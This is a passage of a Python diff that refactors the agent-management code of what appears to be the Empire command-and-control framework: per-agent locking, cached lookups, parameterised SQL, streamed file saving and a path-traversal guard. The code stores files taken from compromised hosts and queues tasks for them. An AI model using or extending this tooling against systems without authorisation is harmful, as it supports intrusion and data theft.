+                signal = helpers.signal_json(message, True)
+                dispatcher.send(signal, sender=self._sender(sessionID))
                 return
 
             # make the recursive directory structure if it doesn't already exist
-            if not os.path.exists(save_path):
-                os.makedirs(save_path)
-
-            # overwrite an existing file
-            if not append:
-                f = open("%s/%s" % (save_path, filename), 'wb')
-            else:
-                # otherwise append
-                f = open("%s/%s" % (save_path, filename), 'ab')
+            os.makedirs(save_path, exist_ok=True)
+
+            # overwrite an existing file, otherwise append
+            mode = 'ab' if append else 'wb'
+            with open("%s/%s" % (save_path, filename), mode) as f:
+                if "python" in lang:
+                    # the compressed part has to be decoded whole to find the crc32 header
+                    if encoded:
+                        data = helpers.decode_base64(data)
+                    # stream the decompressed data straight to disk rather than holding it all in memory
+                    print(helpers.color("\n[*] Compressed size of %s download: %s" %(filename, helpers.get_file_size(data)), color="green"))
+                    dec_data = helpers.decompress_to_file(data, f)
+                    print(helpers.color("[*] Final size of %s wrote: %s" %(filename, helpers.get_file_size(dec_data['size'])), color="green"))
+                    if not dec_data['crc32_check']:
+                        message = "[!] WARNING: File agent {} failed crc32 check during decompression!\n[!] HEADER: Start crc32: {} -- Received crc32: {} -- Crc32 pass: {}!".format(nameid, dec_data['header_crc32'], dec_data['dec_crc32'], dec_data['crc32_check'])
+                        signal = helpers.signal_json(message, True)
+                        dispatcher.send(signal, sender=self._sender(nameid))
+                elif encoded:
+                    # decode straight to disk rather than holding the decoded part in memory
+                    helpers.decode_base64_to_file(data, f)
+                else:
+                    f.write(data)
 
-            if "python" in lang:
-                print(helpers.color("\n[*] Compressed size of %s download: %s" %(filename, helpers.get_file_size(data)), color="green"))
-                d = decompress.decompress()
-                dec_data = d.dec_data(data)
-                print(helpers.color("[*] Final size of %s wrote: %s" %(filename, helpers.get_file_size(dec_data['data'])), color="green"))
-                if not dec_data['crc32_check']:
-                    message = "[!] WARNING: File agent {} failed crc32 check during decompression!\n[!] HEADER: Start crc32: %s -- Received crc32: %s -- Crc32 pass: %s!".format(nameid, dec_data['header_crc32'], dec_data['dec_crc32'], dec_data['crc32_check'])
-                    signal = json.dumps({
-                        'print': True,
-                        'message': message
-                    })
-                    dispatcher.send(signal, sender="agents/{}".format(nameid))
-                data = dec_data['data']
-
-            f.write(data)
-            f.close()
+                # the end of the append/overwrite handle is the file's size so far, no need to stat it
+                written = f.tell()
         finally:
-            self.lock.release()
+            fsLock.release()
 
-        percent = round(int(os.path.getsize("%s/%s" % (save_path, filename)))/int(filesize)*100,2)
+        percent = round(written/int(filesize)*100,2)
 
         # notify everyone that the file was downloaded
         message = "[+] Part of file {} from {} saved [{}%] to {}".format(filename, sessionID, percent, save_path)
-        signal = json.dumps({
-            'print': True,
-            'message': message
-        })
-        dispatcher.send(signal, sender="agents/{}".format(sessionID))
+        signal = helpers.signal_json(message, True)
+        dispatcher.send(signal, sender=self._sender(sessionID))
 
     def save_module_file(self, sessionID, path, data):
         """
@@ -330,61 +937,50 @@ class Agents(object):
 
         sessionID = self.get_agent_name_db(sessionID)
         lang = self.get_language_db(sessionID)
-        parts = path.split("/")
+        dirpart, filename = posixpath.split(path)
+        dirpart = dirpart.rstrip("/")
 
         # construct the appropriate save path
-        save_path = "%s/downloads/%s/%s" % (self.installPath, sessionID, "/".join(parts[0:-1]))
-        filename = parts[-1]
-
-        # decompress data if coming from a python agent:
-        if "python" in lang:
-            print(helpers.color("\n[*] Compressed size of %s download: %s" %(filename, helpers.get_file_size(data)), color="green"))
-            d = decompress.decompress()
-            dec_data = d.dec_data(data)
-            print(helpers.color("[*] Final size of %s wrote: %s" %(filename, helpers.get_file_size(dec_data['data'])), color="green"))
-            if not dec_data['crc32_check']:
-                message = "[!] WARNING: File agent {} failed crc32 check during decompression!\n[!] HEADER: Start crc32: %s -- Received crc32: %s -- Crc32 pass: %s!".format(sessionID, dec_data['header_crc32'], dec_data['dec_crc32'], dec_data['crc32_check'])
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
-            data = dec_data['data']
+        save_path = "%s/downloads/%s/%s" % (self.installPath, sessionID, dirpart)
 
+        fsLock = self._agent_fs_locks[sessionID]
         try:
-            self.lock.acquire()
+            fsLock.acquire()
             # fix for 'skywalker' exploit by @zeroSteiner
-            safePath = os.path.abspath("%s/downloads/" % self.installPath)
-            if not os.path.abspath(save_path + "/" + filename).startswith(safePath):
+            if not self._is_safe_download_path(save_path, filename):
                 message = "[!] WARNING: agent {} attempted skywalker exploit!\n[!] attempted overwrite of {} with data {}".format(sessionID, path, data)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
+                signal = helpers.signal_json(message, True)
+                dispatcher.send(signal, sender=self._sender(sessionID))
                 return
 
             # make the recursive directory structure if it doesn't already exist
-            if not os.path.exists(save_path):
-                os.makedirs(save_path)
+            os.makedirs(save_path, exist_ok=True)
 
             # save the file out
             f = open("%s/%s" % (save_path, filename), 'wb')
 
-            f.write(data)
+            # decompress data if coming from a python agent:
+            if "python" in lang:
+                print(helpers.color("\n[*] Compressed size of %s download: %s" %(filename, helpers.get_file_size(data)), color="green"))
+                dec_data = helpers.decompress_to_file(data, f)
+                print(helpers.color("[*] Final size of %s wrote: %s" %(filename, helpers.get_file_size(dec_data['size'])), color="green"))
+                if not dec_data['crc32_check']:
+                    message = "[!] WARNING: File agent {} failed crc32 check during decompression!\n[!] HEADER: Start crc32: {} -- Received crc32: {} -- Crc32 pass: {}!".format(sessionID, dec_data['header_crc32'], dec_data['dec_crc32'], dec_data['crc32_check'])
+                    signal = helpers.signal_json(message, True)
+                    dispatcher.send(signal, sender=self._sender(sessionID))
+            else:
+                f.write(data)
+
             f.close()
         finally:
-            self.lock.release()
+            fsLock.release()
 
         # notify everyone that the file was downloaded
         message = "\n[+] File {} from {} saved".format(path, sessionID)
-        signal = json.dumps({
-            'print': True,
-            'message': message
-        })
-        dispatcher.send(signal, sender="agents/{}".format(sessionID))
+        signal = helpers.signal_json(message, True)
+        dispatcher.send(signal, sender=self._sender(sessionID))
 
-        return "/downloads/%s/%s/%s" % (sessionID, "/".join(parts[0:-1]), filename)
+        return "/downloads/%s/%s/%s" % (sessionID, dirpart, filename)
 
 
     def save_agent_log(self, sessionID, data):
@@ -393,23 +989,70 @@ class Agents(object):
         """
         if isinstance(data, bytes):
            data = data.decode('UTF-8')
-        name = self.get_agent_name_db(sessionID)
-        save_path = self.installPath + "/downloads/" + str(name) + "/"
 
-        try:
-            self.lock.acquire()
-            # make the recursive directory structure if it doesn't already exist
-            if not os.path.exists(save_path):
-                os.makedirs(save_path)
+        while True:
+            name = str(self.get_agent_name_db(sessionID))
+            logHandle = self._get_log_handle(name)
+            with logHandle[1]:
+                # a rename or removal can close the handle after it was looked up,
+                #   look the agent's log up again then
+                if logHandle[0].closed:
+                    continue
+
+                current_time = helpers.get_datetime()
+
+                # each entry is flushed as it's written, so agent.log is always current on disk
+                logHandle[0].write("\n" + current_time + " : " + "\n")
+                logHandle[0].write(data + "\n")
+                logHandle[0].flush()
+                return
 
-            current_time = helpers.get_datetime()
 
-            f = open("%s/agent.log" % (save_path), 'a')
-            f.write("\n" + current_time + " : " + "\n")
-            f.write(data + "\n")
-            f.close()
-        finally:
-            self.lock.release()
+    def _get_log_handle(self, name):
+        """
+        Return the open [file, lock] agent.log handle for an agent name,
+        opening the log on first use.
+        """
+        logHandle = self._log_handles.get(name)
+        if logHandle:
+            return logHandle
+
+        with self._log_handles_lock:
+            logHandle = self._log_handles.get(name)
+            if not logHandle:
+                save_path = self.installPath + "/downloads/" + name + "/"
+
+                # make the recursive directory structure if it doesn't already exist
+                if not os.path.exists(save_path):
+                    os.makedirs(save_path)
+
+                f = open("%s/agent.log" % (save_path), 'a', buffering=8192)
+                logHandle = [f, threading.Lock()]
+                self._log_handles[name] = logHandle
+        return logHandle
+
+
+    def _close_log(self, name):
+        """
+        Flush and close the agent.log handle for an agent name, if one is open.
+        """
+        with self._log_handles_lock:
+            logHandle = self._log_handles.pop(name, None)
+        if logHandle:
+            with logHandle[1]:
+                logHandle[0].close()
+
+
+    def _close_logs(self):
+        """
+        Flush and close every open agent.log handle, registered with atexit.
+        """
+        with self._log_handles_lock:
+            logHandles = list(self._log_handles.values())
+            self._log_handles.clear()
+        for f, lock in logHandles:
+            with lock:
+                f.close()
 
 
     ###############################################################
@@ -430,15 +1073,11 @@ class Agents(object):
         if nameid:
             sessionID = nameid
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
-            cur.execute("SELECT high_integrity FROM agents WHERE session_id=?", [sessionID])
+            cur.execute(SQL_SELECT_HIGH_INTEGRITY, [sessionID])
             elevated = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if elevated and elevated != None and elevated != ():
             return int(elevated[0]) == 1
@@ -450,40 +1089,52 @@ class Agents(object):
         """
         Return all active agents from the database.
         """
-        conn = self.get_db_connection()
         results = None
-        try:
-            self.lock.acquire()
-            oldFactory = conn.row_factory
-            conn.row_factory = helpers.dict_factory # return results as a dictionary
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
-            cur.execute("SELECT * FROM agents")
+            cur.row_factory = helpers.dict_factory # return results as a dictionary
+            cur.execute(SQL_SELECT_AGENTS)
             results = cur.fetchall()
             cur.close()
-            conn.row_factory = oldFactory
-        finally:
-            self.lock.release()
 
         return results
 
 
+    def iter_agents_db(self, batchSize=256):
+        """
+        Yield all active agents from the database one row at a time, fetching
+        batchSize rows per round trip instead of materializing the whole table.
+        """
+        # the connection is checked out for the life of the generator rather than
+        #   bound to the thread, as the generator may be suspended between rows
+        conn = self._checkout_read_connection()
+        try:
+            cur = conn.cursor()
+            cur.row_factory = helpers.dict_factory # return results as a dictionary
+            cur.execute(SQL_SELECT_AGENTS)
+            try:
+                rows = cur.fetchmany(batchSize)
+                while rows:
+                    for row in rows:
+                        yield row
+                    rows = cur.fetchmany(batchSize)
+            finally:
+                cur.close()
+        finally:
+            self._checkin_read_connection(conn)
+
+
     def get_agent_names_db(self):
         """
         Return all names of active agents from the database.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT name FROM agents")
-            results = cur.fetchall()
+            results = [r[0] for r in cur]
             cur.close()
-        finally:
-            self.lock.release()
 
-        # make sure names all ascii encoded
-        results = [r[0].encode('ascii', 'ignore') for r in results]
         return results
 
 
@@ -492,18 +1143,12 @@ class Agents(object):
         Return all IDs of active agents from the database.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT session_id FROM agents")
-            results = cur.fetchall()
+            results = [r[0] for r in cur]
             cur.close()
-        finally:
-            self.lock.release()
 
-        # make sure names all ascii encoded
-        results = [str(r[0]).encode('ascii', 'ignore') for r in results if r]
         return results
 
 
@@ -512,19 +1157,12 @@ class Agents(object):
         Return complete information for the specified agent from the database.
         """
 
-        conn = self.get_db_connection()
-
-        try:
-            self.lock.acquire()
-            oldFactory = conn.row_factory
-            conn.row_factory = helpers.dict_factory # return results as a dictionary
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
-            cur.execute("SELECT * FROM agents WHERE session_id = ? OR name = ?", [sessionID, sessionID])
+            cur.row_factory = helpers.dict_factory # return results as a dictionary
+            cur.execute(SQL_SELECT_AGENT, [sessionID, sessionID])
             agent = cur.fetchone()
             cur.close()
-            conn.row_factory = oldFactory
-        finally:
-            self.lock.release()
 
         return agent
 
@@ -534,15 +1172,15 @@ class Agents(object):
         Return the nonce for this sessionID.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo and 'nonce' in agentInfo:
+            return agentInfo['nonce']
+
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT nonce FROM agents WHERE session_id=?", [sessionID])
             nonce = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if nonce and nonce is not None:
             if type(nonce) is str:
@@ -561,15 +1199,15 @@ class Agents(object):
         if nameid:
             sessionID = nameid
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo and 'language' in agentInfo:
+            return agentInfo['language']
+
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT language FROM agents WHERE session_id=?", [sessionID])
             language = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if language is not None:
             if isinstance(language, str):
@@ -588,15 +1226,15 @@ class Agents(object):
         if nameid:
             sessionID = nameid
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo and 'language_version' in agentInfo:
+            return agentInfo['language_version']
+
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT language_version FROM agents WHERE session_id=?", [sessionID])
             language = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if language is not None:
             if isinstance(language, str):
@@ -610,15 +1248,15 @@ class Agents(object):
         Return AES session key from the database for this sessionID.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo and 'sessionKey' in agentInfo:
+            return agentInfo['sessionKey']
+
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT session_key FROM agents WHERE session_id = ? OR name = ?", [sessionID, sessionID])
             sessionKey = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if sessionKey is not None:
             if isinstance(sessionKey, str):
@@ -645,20 +1283,18 @@ class Agents(object):
             try:
                 self.lock.acquire()
                 cur = conn.cursor()
-                cur.execute("SELECT results FROM agents WHERE session_id=?", [sessionID])
-                results = cur.fetchone()
+                cur.execute(SQL_SELECT_AGENT_RESULTS, [sessionID])
+                results = cur.fetchall()
 
-                cur.execute("UPDATE agents SET results=? WHERE session_id=?", ['', sessionID])
+                # only drain what was read, and only if there was something there,
+                #   polling an idle agent stays read-only
+                if results:
+                    cur.execute(SQL_DELETE_AGENT_RESULTS, [sessionID, results[-1][0]])
                 cur.close()
             finally:
                 self.lock.release()
 
-            if results and results[0] and results[0] != '':
-                out = json.loads(results[0])
-                if out:
-                    return "\n".join(out)
-            else:
-                return ''
+            return "\n".join(data for pk, data in results)
 
 
     def get_agent_id_db(self, name):
@@ -666,15 +1302,21 @@ class Agents(object):
         Get an agent sessionID based on the name.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        # the reverse index covers every cached agent
+        sessionID = self._name_to_sid.get(name)
+        if sessionID:
+            return sessionID
+
+        # a cached sessionID that isn't in the index has been renamed, so it isn't a name
+        if name in self.agents:
+            return None
+
+        # only agents this process doesn't know about fall through to the database
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT session_id FROM agents WHERE name=?", [name])
             results = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
         if results:
             return results[0]
         else:
@@ -686,20 +1328,42 @@ class Agents(object):
         Return an agent name based on sessionID.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo and 'name' in agentInfo:
+            return agentInfo['name']
+
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT name FROM agents WHERE session_id = ? or name = ?", [sessionID, sessionID])
             results = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if results:
-            return results[0]
+            return results[0]
+        else:
+            return None
+
+
+    def _get_agent_meta(self, sessionID):
+        """
+        Return (name, hostname, os_details) for an agent in one lookup,
+        from the agent cache or else a single query.
+        """
+
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo:
+            return (agentInfo['name'], agentInfo['hostname'], agentInfo['os_details'])
+
+        with self.get_read_connection() as conn:
+            cur = conn.cursor()
+            cur.execute("SELECT name, hostname, os_details FROM agents WHERE session_id = ? or name = ?", [sessionID, sessionID])
+            results = cur.fetchone()
+            cur.close()
+
+        if results:
+            return tuple(results)
         else:
-            return None
+            return (None, None, None)
 
 
     def get_agent_hostname_db(self, sessionID):
@@ -707,15 +1371,15 @@ class Agents(object):
         Return an agent's hostname based on sessionID.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo and 'hostname' in agentInfo:
+            return agentInfo['hostname']
+
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT hostname FROM agents WHERE session_id=? or name=?", [sessionID, sessionID])
             results = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if results:
             return results[0]
@@ -728,15 +1392,15 @@ class Agents(object):
         Return an agent's operating system details based on sessionID.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo and 'os_details' in agentInfo:
+            return agentInfo['os_details']
+
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT os_details FROM agents WHERE session_id=? or name=?", [sessionID, sessionID])
             results = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if results:
             return results[0]
@@ -754,16 +1418,10 @@ class Agents(object):
         if nameid:
             sessionID = nameid
 
-        results = []
-
-        try:
-            self.lock.acquire()
-            if sessionID in self.agents:
-                results = self.agents[sessionID]['functions']
-        finally:
-            self.lock.release()
-
-        return results
+        agentInfo = self.agents.get(sessionID)
+        if agentInfo:
+            return agentInfo['functions']
+        return []
 
 
     def get_agent_functions_db(self, sessionID):
@@ -771,15 +1429,11 @@ class Agents(object):
         Return the tab-completable functions for an agent from the database.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT functions FROM agents WHERE session_id=? OR name=?", [sessionID, sessionID])
             functions = cur.fetchone()
             cur.close()
-        finally:
-            self.lock.release()
 
         if functions is not None and functions[0] is not None:
             return functions[0].split(',')
@@ -789,21 +1443,15 @@ class Agents(object):
 
     def get_agents_for_listener(self, listenerName):
         """
-        Return agent objects linked to a given listener name.
+        Return the sessionIDs of agents linked to a given listener name.
         """
 
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
             cur.execute("SELECT session_id FROM agents WHERE listener=?", [listenerName])
-            results = cur.fetchall()
+            results = [r[0] for r in cur]
             cur.close()
-        finally:
-            self.lock.release()
 
-        # make sure names all ascii encoded
-        results = [r[0].encode('ascii', 'ignore') for r in results]
         return results
 
 
@@ -812,21 +1460,13 @@ class Agents(object):
         Return agent names linked to the given listener name.
         """
 
-        conn = self.get_db_connection()
-
-        try:
-            self.lock.acquire()
-            oldFactory = conn.row_factory
-            conn.row_factory = helpers.dict_factory # return results as a dictionary
+        with self.get_read_connection() as conn:
             cur = conn.cursor()
-            cur.execute("SELECT * FROM agents WHERE listener=?", [listenerName])
-            agents = cur.fetchall()
+            cur.execute("SELECT name FROM agents WHERE listener=?", [listenerName])
+            names = [r[0] for r in cur]
             cur.close()
-            conn.row_factory = oldFactory
-        finally:
-            self.lock.release()
 
-        return agents
+        return names
 
 
     def get_autoruns_db(self):
@@ -834,33 +1474,22 @@ class Agents(object):
         Return any global script autoruns.
         """
 
-        conn = self.get_db_connection()
-
-        autoruns = None
-
-        try:
-            self.lock.acquire()
-            cur = conn.cursor()
-            cur.execute("SELECT autorun_command FROM config")
-            results = cur.fetchone()
-            if results:
-                autorun_command = results[0]
-            else:
-                autorun_command = ''
+        # the autoruns only change through set_autoruns_db()/clear_autoruns_db(), which reset this
+        autoruns = self._autorun_cache
+        if autoruns is None:
+            with self.get_read_connection() as conn:
+                cur = conn.cursor()
+                cur.execute(SQL_SELECT_AUTORUNS)
+                results = cur.fetchone()
+                cur.close()
 
-            cur = conn.cursor()
-            cur.execute("SELECT autorun_data FROM config")
-            results = cur.fetchone()
             if results:
-                autorun_data = results[0]
+                autoruns = (results[0], results[1])
             else:
-                autorun_data = ''
-            cur.close()
-            autoruns = [autorun_command, autorun_data]
-        finally:
-            self.lock.release()
+                autoruns = ('', '')
+            self._autorun_cache = autoruns
 
-        return autoruns
+        return list(autoruns)
 
     ###############################################################
     #
@@ -877,44 +1506,42 @@ class Agents(object):
 
         if session_id in self.agents:
             conn = self.get_db_connection()
-            old_factory = conn.row_factory
-            conn.row_factory = sqlite3.Row
             try:
                 self.lock.acquire()
                 cur = conn.cursor()
+                cur.row_factory = sqlite3.Row
 
-                # get existing files/dir that are in this directory.
-                # delete them and their children to keep everything up to date. There's a cascading delete on the table.
-                this_directory = cur.execute("SELECT * FROM file_directory where session_id = ? and path = ?",
-                                             [session_id, response['directory_path']]).fetchone()
-                if this_directory:
-                    cur.execute("DELETE FROM file_directory WHERE session_id = ? and parent_id = ?",
-                                [session_id, this_directory['id']])
-                else:  # if the directory doesn't exist we have to create one
-                    # parent is None for now even though it might have one. This is self correcting.
-                    # If it's true parent is scraped, then this entry will get rewritten
-                    cur.execute("INSERT INTO file_directory  ('name', 'path', 'parent_id', 'is_file', 'session_id')VALUES ('{0}', '{1}', '{2}', '{3}', '{4}')"
-                                .format(response['directory_name'], response['directory_path'], None, 0, session_id))
-                    this_directory = cur.execute("SELECT * FROM file_directory where session_id = ? and path = ?",
-                                                 [session_id, response['directory_path']]).fetchone()
-
-                delete = ""
-                insert = "INSERT INTO file_directory  ('name', 'path', 'parent_id', 'is_file', 'session_id') VALUES "
-                insert_arr = []
-                # insert all the new items
-                for item in response['items']:
-                    # Delete it if its already there so that we can be self correcting
-                    delete += f"\nDELETE FROM file_directory WHERE session_id = '{session_id}' AND path = '{item['path']}';"
-                    insert_arr.append(f"('{item['name']}', '{item['path']}', '{None if not this_directory else this_directory['id']}', '{1 if item['is_file'] is True else 0}', '{session_id}')")
-
-                if len(insert_arr) > 0:
-                    cur.executescript(delete)
-                    cur.execute(insert + ','.join(insert_arr) + ';')
+                # the refresh is one transaction, so it commits once however many items the listing has
+                cur.execute("BEGIN IMMEDIATE")
+                try:
+                    # get existing files/dir that are in this directory.
+                    # delete them and their children to keep everything up to date. There's a cascading delete on the table.
+                    this_directory = cur.execute(SQL_SELECT_DIRECTORY, [session_id, response['directory_path']]).fetchone()
+                    if this_directory:
+                        cur.execute(SQL_DELETE_DIRECTORY_CHILDREN, [session_id, this_directory['id']])
+                    else:  # if the directory doesn't exist we have to create one
+                        # parent is None for now even though it might have one. This is self correcting.
+                        # If it's true parent is scraped, then this entry will get rewritten
+                        cur.execute(SQL_INSERT_DIRECTORY_ITEM, [response['directory_name'], response['directory_path'], None, 0, session_id])
+                        this_directory = cur.execute(SQL_SELECT_DIRECTORY, [session_id, response['directory_path']]).fetchone()
+
+                    parent_id = this_directory['id'] if this_directory else None
+                    items = response['items']
+                    if len(items) > 0:
+                        # Delete them if they're already there so that we can be self correcting, then insert all the new items
+                        paths = [item['path'] for item in items]
+                        for chunk in helpers.chunks(paths, SQL_MAX_IN_PARAMS):
+                            cur.execute(SQL_DELETE_DIRECTORY_PATHS % ','.join('?' * len(chunk)), [session_id] + chunk)
+                        cur.executemany(SQL_INSERT_DIRECTORY_ITEM, [(item['name'], item['path'], parent_id, 1 if item['is_file'] is True else 0, session_id) for item in items])
+                    cur.execute("COMMIT")
+                except Exception:
+                    cur.execute("ROLLBACK")
+                    raise
                 cur.close()
             finally:
-                conn.row_factory = old_factory
                 self.lock.release()
 
+
     def update_agent_results_db(self, sessionID, results):
         """
         Update agent results in the database.
@@ -934,26 +1561,15 @@ class Agents(object):
                 self.lock.acquire()
                 cur = conn.cursor()
 
-                # get existing agent results
-                cur.execute("SELECT results FROM agents WHERE session_id LIKE ?", [sessionID])
-                agent_results = cur.fetchone()
-                if agent_results and agent_results[0]:
-                    agent_results = json.loads(agent_results[0])
-                else:
-                    agent_results = []
-
-                agent_results.append(results)
-                cur.execute("UPDATE agents SET results=? WHERE session_id=?", [json.dumps(agent_results), sessionID])
+                # append-only, so a result costs the same however much output is already waiting
+                cur.execute(SQL_INSERT_AGENT_RESULT, [sessionID, helpers.getutcnow(), results])
                 cur.close()
             finally:
                 self.lock.release()
         else:
             message = "[!] Non-existent agent %s returned results".format(sessionID)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=self._sender(sessionID))
 
 
     def update_agent_sysinfo_db(self, sessionID, listener='', external_ip='', internal_ip='', username='', hostname='', os_details='', high_integrity=0, process_name='', process_id='', language_version='', language=''):
@@ -975,22 +1591,28 @@ class Agents(object):
         finally:
             self.lock.release()
 
+        self._update_cached_agent(sessionID, hostname=hostname, os_details=os_details, language_version=language_version, language=language)
+
 
     def update_agent_lastseen_db(self, sessionID, current_time=None):
         """
-        Update the agent's last seen timestamp in the database.
+        Update the agent's last seen timestamp.
+
+        The agent cache is updated right away, the database row at the next
+        _flush_lastseen().
         """
 
         if not current_time:
             current_time = helpers.getutcnow()
-        conn = self.get_db_connection()
-        try:
-            self.lock.acquire()
-            cur = conn.cursor()
-            cur.execute("UPDATE agents SET lastseen_time=? WHERE session_id=? OR name=?", [current_time, sessionID, sessionID])
-            cur.close()
-        finally:
-            self.lock.release()
+
+        # see if we were passed a name instead of an ID
+        nameid = self.get_agent_id_db(sessionID)
+        if nameid:
+            sessionID = nameid
+
+        self._lastseen_pending[sessionID] = current_time
+
+        self._update_cached_agent(sessionID, lastseen_time=current_time.astimezone(timezone.utc))
 
 
     def update_agent_listener_db(self, sessionID, listenerName):
@@ -998,15 +1620,22 @@ class Agents(object):
         Update the specified agent's linked listener name in the database.
         """
 
+        # see if we were passed a name instead of an ID
+        nameid = self.get_agent_id_db(sessionID)
+        if nameid:
+            sessionID = nameid
+
         conn = self.get_db_connection()
         try:
             self.lock.acquire()
             cur = conn.cursor()
-            cur.execute("UPDATE agents SET listener=? WHERE session_id=? OR name=?", [listenerName, sessionID, sessionID])
+            cur.execute("UPDATE agents SET listener=? WHERE session_id=?", [listenerName, sessionID])
             cur.close()
         finally:
             self.lock.release()
 
+        self._update_cached_agent(sessionID, listener=listenerName)
+
 
     def rename_agent(self, oldname, newname):
         """
@@ -1030,7 +1659,8 @@ class Agents(object):
                 print(helpers.color("[!] Name already used by current or past agent."))
                 retVal = False
             else:
-                # move the old folder path to the new one
+                # move the old folder path to the new one, the open log moves with it
+                self._close_log(oldname)
                 if os.path.exists(oldPath):
                     os.rename(oldPath, newPath)
 
@@ -1039,6 +1669,7 @@ class Agents(object):
                 cur.execute("UPDATE agents SET name=? WHERE name=?", [newname, oldname])
                 events.agent_rename(oldname, newname)
                 cur.close()
+                self._update_cached_agent(oldname, name=newname)
 
                 retVal = True
         finally:
@@ -1054,10 +1685,23 @@ class Agents(object):
         Set field:value for a particular sessionID in the database.
         """
 
+        # see if we were passed a name instead of an ID
+        nameid = self.get_agent_id_db(sessionID)
+        if nameid:
+            sessionID = nameid
+
         conn = self.get_db_connection()
-        cur = conn.cursor()
-        cur.execute("UPDATE agents SET " + str(field) + "=? WHERE session_id=? OR name=?", [value, sessionID, sessionID])
-        cur.close()
+        try:
+            self.lock.acquire()
+            cur = conn.cursor()
+            cur.execute("UPDATE agents SET " + str(field) + "=? WHERE session_id=?", [value, sessionID])
+            cur.close()
+        finally:
+            self.lock.release()
+
+        # keep the cache coherent if this is one of the mirrored columns
+        if field in self._CACHED_FIELDS:
+            self._update_cached_agent(sessionID, **{field: value})
 
 
     def set_agent_functions_db(self, sessionID, functions):
@@ -1070,8 +1714,7 @@ class Agents(object):
         if nameid:
             sessionID = nameid
 
-        if sessionID in self.agents:
-            self.agents[sessionID]['functions'] = functions
+        self._update_cached_agent(sessionID, functions=functions)
 
         functions = ','.join(functions)
 
@@ -1089,9 +1732,9 @@ class Agents(object):
         try:
             conn = self.get_db_connection()
             cur = conn.cursor()
-            cur.execute("UPDATE config SET autorun_command=?", [taskCommand])
-            cur.execute("UPDATE config SET autorun_data=?", [moduleData])
+            cur.execute(SQL_UPDATE_AUTORUNS, [taskCommand, moduleData])
             cur.close()
+            self._autorun_cache = None
         except Exception:
             print(helpers.color("[!] Error: script autoruns not a database field, run ./setup_database.py to reset DB schema."))
             print(helpers.color("[!] Warning: this will reset ALL agent connections!"))
@@ -1106,9 +1749,9 @@ class Agents(object):
         try:
             self.lock.acquire()
             cur = conn.cursor()
-            cur.execute("UPDATE config SET autorun_command=''")
-            cur.execute("UPDATE config SET autorun_data=''")
+            cur.execute(SQL_UPDATE_AUTORUNS, ['', ''])
             cur.close()
+            self._autorun_cache = None
         finally:
             self.lock.release()
 
@@ -1119,14 +1762,17 @@ class Agents(object):
     #
     ###############################################################
 
-    def add_agent_task_db(self, sessionID, taskName, task='', moduleName=None, uid=None):
+    def add_agent_task_db(self, sessionID, taskName, task='', moduleName=None, uid=None, timestamp=None):
         """
         Add a task to the specified agent's buffer in the database.
+
+        timestamp lets a caller that already has the current time reuse it.
         """
         agentName = sessionID
         # see if we were passed a name instead of an ID
         nameid = self.get_agent_id_db(sessionID)
-        timestamp = helpers.getutcnow()
+        if not timestamp:
+            timestamp = helpers.getutcnow()
 
         if nameid:
             sessionID = nameid
@@ -1135,70 +1781,95 @@ class Agents(object):
             print(helpers.color("[!] Agent %s not active." % (agentName)))
         else:
             if sessionID:
+                sender = self._sender(sessionID)
